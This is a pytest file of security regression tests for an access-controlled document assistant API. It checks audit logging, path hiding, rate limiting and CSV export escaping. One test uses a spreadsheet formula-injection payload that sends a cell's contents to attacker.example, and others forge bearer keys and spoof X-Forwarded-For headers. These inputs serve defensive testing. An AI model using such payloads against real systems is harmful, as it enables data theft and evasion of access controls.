"""Smaller leaks and gaps (issue 14, item 10), each against the real keyed server unless it is about a race."""

from __future__ import annotations

import csv
import io
import secrets

import httpx
import pytest
from conftest import LIBRARY, RATE_LIMIT, RESTRICTED_PLACE

from assistant.service import Assistant
from assistant.web.routes.access import ScopedAssistant
from assistant.web.routes.errors import ApiError
from retrieval.models import AccessLevel

pytestmark = pytest.mark.slow

UNKNOWN_PLACE = "杭州"  # named by no document at all


@pytest.fixture
def clients(keyed):
    url, headers, _ = keyed
    made = {role: httpx.Client(base_url=url, headers=h, timeout=120) for role, h in headers.items()}
    made["nobody"] = httpx.Client(base_url=url, timeout=120)
    yield made
    for client in made.values():
        client.close()


def _audit(clients, **params) -> list[dict]:
    response = clients["admin"].get("/v1/audit", params={"limit": 500, **params})
    assert response.status_code == 200, response.text
    return response.json()


def test_a_refusal_names_a_place_of_restricted_documents_as_it_names_an_unknown_one(clients):
    for place in (RESTRICTED_PLACE, UNKNOWN_PLACE):
        answer = clients["staff"].post("/v1/ask", json={"question": f"{place}方向来水时怎么报告？"}).json()
        assert answer["refused"] and place in answer["refusal_reason"], (place, answer["refusal_reason"])
    admin = clients["admin"].post("/v1/ask", json={"question": f"{RESTRICTED_PLACE}方向来水时怎么报告？"}).json()
    assert RESTRICTED_PLACE not in (admin["refusal_reason"] or "")  # the library does hold it, for admins


def test_healthz_counts_only_what_the_caller_may_read(clients):
    public = len(clients["staff"].get("/v1/documents").json())
    everything = len(clients["admin"].get("/v1/documents").json())
    assert public < everything
    assert clients["nobody"].get("/healthz").json()["documents"] == public
    assert clients["staff"].get("/healthz").json()["documents"] == public
    assert clients["admin"].get("/healthz").json()["documents"] == everything


def test_server_paths_are_shown_to_admins_only(clients):
    def paths(client: httpx.Client) -> list[str]:
        docs = client.get("/v1/documents").json()
        hits = client.post("/v1/search", json={"query": "信息报告"}).json()["hits"]
        chunk = client.get(f"/v1/chunks/{hits[0]['chunk_id']}").json()
        answer = client.post("/v1/ask", json={"question": "区水务局多长时间内报告险情？"}).json()
        return ([d["source_path"] for d in docs] + [h["source_path"] for h in hits] + [chunk["source_path"]]
                + [c["source_path"] for c in answer["citations"]])

    staff = paths(clients["staff"])
    assert staff and all("/" not in p and "\\" not in p and p in LIBRARY for p in staff), staff
    assert all(p.startswith("/") for p in paths(clients["admin"]))


def test_audit_rows_name_the_incident_and_the_refused_callers_never_their_keys(keyed, clients):
    _, headers, _ = keyed
    created = clients["admin"].post("/v1/incidents", json={"hazard": "防汛", "place": "河西街道",
                                                            "facts": "24小时降雨量250毫米"})
    assert created.status_code == 200, created.text
    revoked_key = headers["revoked"]["Authorization"].split()[1]
    assert clients["revoked"].get("/v1/documents").status_code == 401
    forged = f"pa_{revoked_key.split('_')[1]}_{secrets.token_urlsafe(32)}"
    assert clients["nobody"].get("/v1/documents", headers={"Authorization": f"Bearer {forged}"}).status_code == 401
    assert _until_429(lambda: clients["trainer"].get("/v1/me"))

    rows = _audit(clients)
    incident = next(r for r in rows if r["endpoint"] == "/v1/incidents" and r["method"] == "POST")
    assert "河西街道" in incident["subject"] and "防汛" in incident["subject"]
    refused = [r for r in rows if r["status"] == 401]
    assert any(r["user"] == "gone (revoked)" for r in refused)
    assert any(r["user"] == f"pa_{revoked_key.split('_')[1]}" for r in refused)  # a forged secret: the key id only
    assert any(r["status"] == 429 and r["user"] == "trainer" and r["role"] == "trainer" for r in rows)
    assert all(r["user"] for r in rows)
    exported = clients["admin"].get("/v1/audit", params={"format": "csv", "limit": 5000}).text
    assert revoked_key not in exported and forged not in exported


def test_the_csv_export_keeps_formulas_as_text(clients):
    payloads = ['=HYPERLINK("http://attacker.example/?x="&A1,"点击查看")', "+1+2", "-3+4", "@SUM(1)"]
    for payload in payloads:
        clients["staff"].post("/v1/search", json={"query": payload})
    exported = clients["admin"].get("/v1/audit", params={"format": "csv", "endpoint": "/v1/search"}).text
    subjects = {row["subject"] for row in csv.DictReader(io.StringIO(exported))}
    for payload in payloads:
        assert "'" + payload in subjects and payload not in subjects


def test_out_of_range_values_are_a_422_not_a_500(clients):
    for path, params in (("/v1/audit", {"since": "0001-01-01T00:00:00+14:00"}),
                         ("/v1/audit", {"until": "9999-12-31T23:59:59-14:00"}),
                         ("/v1/incidents/99999999999999999999999", {}),
                         ("/v1/incidents/99999999999999999999999/export", {})):
        response = clients["admin"].get(path, params=params)
        assert response.status_code == 422, (path, response.status_code, response.text[:200])
        assert response.json()["error"]["code"] == "invalid_request"
    assert clients["admin"].get("/healthz").status_code == 200


def _until_429(call) -> bool:
    """Call until the limiter answers 429 (the bucket refills continuously, so a slow machine needs more calls
    than the limit; 20 times the limit is a bound, not a timing)."""
    return any(call().status_code == 429 for _ in range(RATE_LIMIT * 20))


def test_forwarded_for_cannot_multiply_the_failed_key_allowance(clients):
    def forged_from_a_new_address() -> httpx.Response:
        forged = {"Authorization": f"Bearer pa_{secrets.token_hex(6)}_{secrets.token_urlsafe(32)}",
                  "X-Forwarded-For": f"203.0.113.{secrets.randbelow(250) + 1}"}
        return clients["nobody"].get("/v1/me", headers=forged)

    assert _until_429(forged_from_a_new_address)


def test_a_document_deleted_while_an_answer_is_built_is_not_an_access_alarm(tmp_path):
    """The race, made deterministic: the quiz is built, its document deleted, and only then checked."""
    folder = tmp_path / "docs"
    folder.mkdir()
    for name in ("示例区防汛应急预案.md", "示例区防汛应急预案.meta.toml"):
        (folder / name).write_text(LIBRARY[name], encoding="utf-8")
    assistant = Assistant(home=tmp_path / "home")
    doc_id = assistant.ingest([folder])[0].doc_id
    scoped = ScopedAssistant(assistant, [AccessLevel.PUBLIC])
    quiz = scoped.ask("信息报告", task="quiz", n=2, kinds=["fill_blank"])
    assert quiz.citations
    assistant.delete(doc_id)
    with pytest.raises(ApiError) as raised:
        scoped.check_answer(quiz)
    assert raised.value.status == 409 and raised.value.code == "document_deleted"
    assert "access" not in raised.value.message
